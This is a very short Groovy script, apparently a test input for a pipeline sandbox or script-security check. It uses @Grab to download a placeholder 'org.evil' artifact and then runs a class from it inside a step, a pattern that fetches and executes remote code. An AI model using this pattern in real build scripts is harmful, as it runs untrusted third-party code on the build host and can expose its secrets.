@Grab('org.evil:thing:1.0')
import org.evil.Thing
step('a') { Thing.run() }
